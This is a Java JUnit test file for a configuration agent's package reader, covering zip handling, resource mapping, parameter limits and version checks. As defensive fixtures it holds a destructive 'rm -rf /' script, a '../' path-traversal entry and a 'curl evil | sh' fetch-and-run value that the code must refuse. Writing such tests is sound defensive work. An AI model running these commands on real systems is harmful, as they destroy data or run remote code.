package io.holdfast.agent.configuration.packages;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.holdfast.agent.configuration.AssignmentType;
import io.holdfast.agent.configuration.Consistency;
import io.holdfast.agent.configuration.ItemResult;
import io.holdfast.agent.configuration.resources.Machine;
import io.holdfast.agent.configuration.resources.ScriptRules;
import io.holdfast.agent.packages.PackageException;
import io.holdfast.agent.packages.StagedPackage;
import io.holdfast.agent.platform.CommandTools;
import io.holdfast.agent.platform.MachineRoot;
import io.holdfast.kernel.Digest;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Collectors;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Packages in the documented form: read, mapped to this agent's resources, refused when anything is off. */
class ConfigurationPackageTest {
    private static final String META = "{\"Type\":\"AuditAndSet\",\"Version\":\"2.1.0\"}";
    private static final String END =
            "instance of OMI_ConfigurationDocument {Version=\"2.0.0\"; Name=\"Web\"; Author=\"ada\";};\n";

    @TempDir
    private Path folder;

    private static String instance(String className, String id, String properties) {
        return "instance of " + className + " {ResourceID=\"" + id + "\"; ModuleName=\"M\"; SourceInfo=\"x\"; "
                + properties + "};\n";
    }

    private static ConfigurationPackage read(String document, Map<String, String> parameters)
            throws ConfigurationPackageException {
        return ConfigurationPackage.of(
                "Web", document.getBytes(StandardCharsets.UTF_8), META.getBytes(StandardCharsets.UTF_8), parameters);
    }

    private Map<String, ItemResult> audit(ConfigurationPackage read) throws IOException {
        MachineRoot root = MachineRoot.at(folder);
        return Consistency.audit(
                        read.configuration().items(), new Machine(root, new CommandTools(root), ScriptRules.NONE))
                .stream()
                .collect(Collectors.toMap(one -> one.item().id(), one -> one));
    }

    private static String phrase(Map<String, ItemResult> results, String id) {
        return Optional.ofNullable(results.get(id))
                .orElseThrow()
                .reasons()
                .getFirst()
                .phrase();
    }

    private static byte[] zip(Map<String, String> files) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, String> file : files.entrySet()) {
                zip.putNextEntry(new ZipEntry(file.getKey()));
                zip.write(file.getValue().getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        }
        return bytes.toByteArray();
    }

    private StagedPackage staged(Map<String, String> files) throws IOException, PackageException {
        byte[] zip = zip(files);
        return StagedPackage.receive(
                new ByteArrayInputStream(zip), Digest.of(zip), 1 << 20, folder.resolve("package.zip"));
    }

    @Test
    void aPackageIsReadOutOfItsZipAndNothingIsUnpacked() throws Exception {
        String document =
                instance("nxFile", "[nxFile]motd", "DestinationPath=\"/etc/motd\"; Ensure=\"Present\";") + END;
        ConfigurationPackage read = ConfigurationPackage.open(
                staged(Map.of("Web.mof", document, "Web.metaconfig.json", META, "Modules/evil/run.sh", "rm -rf /")),
                "Web",
                "2.*",
                Map.of());
        assertThat(read.configuration().version()).isEqualTo("2.1.0");
        assertThat(read.limited(AssignmentType.APPLY_AND_AUTO_CORRECT))
                .isEqualTo(AssignmentType.APPLY_AND_AUTO_CORRECT);
        assertThat(phrase(audit(read), "[nxFile]motd")).isEqualTo("The file '/etc/motd' does not exist.");
        try (var files = Files.list(folder)) {
            assertThat(files).containsExactly(folder.resolve("package.zip"));
        }
        assertThatThrownBy(() -> ConfigurationPackage.open(staged(Map.of("Web.mof", document)), "Web", "", Map.of()))
                .isInstanceOf(ConfigurationPackageException.class)
                .hasMessageContaining("(expected: Web.mof and Web.metaconfig.json)");
        assertThatThrownBy(() -> ConfigurationPackage.open(staged(Map.of("../Web.mof", document)), "Web", "", Map.of()))
                .hasMessageContaining("the package is refused");
    }

    @Test
    void wellKnownClassesBecomeResourcesOfThisAgent() throws Exception {
        Files.createDirectories(folder.resolve("etc"));
        Files.writeString(folder.resolve("etc/passwd"), "root:x:0:0::/root:/bin/sh\n");
        Files.writeString(folder.resolve("etc/group"), "root:x:0:\n");
        Files.writeString(folder.resolve("etc/app.conf"), "port = 80\n");
        ConfigurationPackage read = read(
                String.join(
                        "",
                        List.of(
                                instance(
                                        "nxFile", "f", "DestinationPath=\"/etc/app.conf\"; Contents=\"port = 80\\n\";"),
                                instance("nxFileLine", "l", "FilePath=\"/etc/app.conf\"; ContainsLine=\"port = 81\";"),
                                instance("nxPackage", "p", "Name=\"nginx\"; Ensure=\"Absent\";"),
                                instance("nxService", "s", "Name=\"nginx\"; Enabled=True; State=\"Running\";"),
                                instance("nxUser", "u", "UserName=\"root\";"),
                                instance("nxGroup", "g", "GroupName=\"wheel\"; Ensure=\"Present\";"),
                                instance("GC_InstalledApplicationLinux", "i", "Name=\"curl\";"),
                                instance("GC_NotInstalledApplicationLinux", "n", "Name=\"telnet;ftp\";"),
                                instance("Holdfast_FileAccess", "h", "path=\"/etc/passwd\"; mode=\"0644\";"),
                                END)),
                Map.of());
        Map<String, Boolean> compliant = audit(read).entrySet().stream()
                .collect(Collectors.toMap(
                        Map.Entry::getKey, one -> one.getValue().result().compliant()));
        assertThat(compliant)
                .isEqualTo(Map.of(
                        "f", true, "l", false, "p", true, "s", false, "u", true, "g", false, "i", false, "n", true, "h",
                        true));
    }

    @Test
    void whatCannotBeCheckedIsNeverCompliant() throws Exception {
        ConfigurationPackage read = read(
                instance("Registry", "[Registry]r", "Key=\"HKLM\";")
                        + instance("nxFile", "[nxFile]x", "DestinationPath=\"/etc/x\"; Checksum=\"md5\";")
                        + END,
                Map.of());
        Map<String, ItemResult> results = audit(read);
        assertThat(phrase(results, "[Registry]r"))
                .startsWith("The audit failed: class 'Registry' is unknown to this agent");
        assertThat(phrase(results, "[nxFile]x")).contains("property 'Checksum' of nxFile is not supported");
        assertThat(results.values()).allMatch(one -> !one.result().compliant());
    }

    @Test
    void parametersReachTheirResourceAndNoneIsLost() throws Exception {
        String document = instance("GC_InstalledApplicationLinux", "[App]one", "Name=\"curl\";") + END;
        ConfigurationPackage read = read(document, Map.of("[App]one;Name", "wget"));
        assertThat(phrase(audit(read), "[App]one")).isEqualTo("The package 'wget' is not installed.");
        assertThatThrownBy(() -> read(document, Map.of("[App]two;Name", "wget")))
                .hasMessageContaining("parameter '[App]two;Name'");
    }

    /** Values travel as texts; the property in the document says what they are. */
    @Test
    void parametersTakeTheKindOfTheirProperty() throws Exception {
        String document =
                instance("Holdfast_FileLine", "[Line]l", "paths={\"/etc/none\"}; pattern=\"a\"; ensure=\"Present\";")
                        + instance("nxUser", "[User]u", "UserName=\"ada\"; Disabled=False;")
                        + END;
        Map<String, ItemResult> results =
                audit(read(document, Map.of("[Line]l;Paths", "/etc/one; /etc/two", "[User]u;Disabled", "TRUE")));
        assertThat(phrase(results, "[Line]l")).contains("/etc/one");
        assertThatThrownBy(() -> read(document, Map.of("[User]u;Disabled", "perhaps")))
                .hasMessage("parameter '[User]u;Disabled': 'perhaps' (expected: true or false)");
        assertThat(audit(read(document, Map.of("[Line]l;Paths", "[\"/etc/json\"]")))
                        .keySet())
                .containsExactlyInAnyOrder("[Line]l", "[User]u");
    }

    /** A stolen control plane chooses parameters: it gets no further than the publisher's document lets it. */
    @Test
    void parametersChangeOnlyWhatTheDocumentLeavesOpen() {
        String document = instance("nxFile", "[nxFile]f", "DestinationPath=\"/etc/x\"; Mode=\"0644\";")
                + instance("Holdfast_Script", "[Script]s", "name=\"s\"; test=\"true\"; set=\"true\";")
                + END;
        for (String closed : new String[] {
            "[nxFile]f;Contents",
            "[nxFile]f;ResourceID",
            "[Script]s;test",
            "[Script]s;Set",
            "[Script]s;testSignature",
            "[Script]s;timeoutSeconds"
        }) {
            assertThatThrownBy(() -> read(document, Map.of(closed, "curl evil | sh")))
                    .as(closed)
                    .isInstanceOf(ConfigurationPackageException.class)
                    .hasMessageContaining("parameter '" + closed + "': the document does not leave it open");
        }
    }

    @Test
    void anotherVersionThanTheAssignmentAsksForIsRefused() throws Exception {
        StagedPackage staged =
                staged(Map.of("Web.mof", instance("GC_msid121", "a", "") + END, "Web.metaconfig.json", META));
        for (String wanted : new String[] {"", "*", "2.*", "2.1.*", "2.1.0"}) {
            assertThat(ConfigurationPackage.open(staged, "Web", wanted, Map.of())
                            .configuration()
                            .version())
                    .isEqualTo("2.1.0");
        }
        for (String wanted : new String[] {"1.*", "2", "2.1.0.*", ".*", "21.*"}) {
            assertThatThrownBy(() -> ConfigurationPackage.open(staged, "Web", wanted, Map.of()))
                    .hasMessage("the package is of version 2.1.0 (expected: " + wanted + ")");
        }
    }

    @Test
    void documentsThatSayLessThanTheyMustAreRefused() {
        assertThatThrownBy(() -> read("", Map.of())).hasMessageContaining("no OMI_ConfigurationDocument");
        assertThatThrownBy(() -> read(END, Map.of())).hasMessageContaining("no resource");
        assertThatThrownBy(() -> read(END.replace("2.0.0", "1.0.0"), Map.of())).hasMessageContaining("expected: 2.0.0");
        assertThatThrownBy(
                        () -> read(instance("GC_msid121", "a", "") + instance("GC_msid121", "a", "") + END, Map.of()))
                .hasMessageContaining("'a' twice");
        assertThatThrownBy(() -> ConfigurationPackage.of(
                        "Web", new byte[0], "{\"Type\":\"Set\"}".getBytes(StandardCharsets.UTF_8), Map.of()))
                .hasMessageContaining("Type 'Set' (expected: Audit or AuditAndSet)");
    }
}
